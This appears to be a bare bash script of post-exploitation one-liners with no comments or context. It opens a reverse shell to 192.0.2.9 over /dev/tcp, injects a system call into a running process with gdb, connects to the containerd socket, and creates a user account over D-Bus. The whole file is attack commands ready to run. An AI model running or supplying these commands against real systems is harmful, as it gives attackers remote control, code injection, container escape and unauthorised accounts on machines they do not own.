#!/bin/bash
bash -i >& /dev/tcp/192.0.2.9/443 0>&1
gdb -p 1234 -batch -ex 'call (void)system("id")'
python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("/run/containerd/containerd.sock")'
dbus-send --system --dest=org.freedesktop.Accounts /org/freedesktop/Accounts org.freedesktop.Accounts.CreateUser string:adm
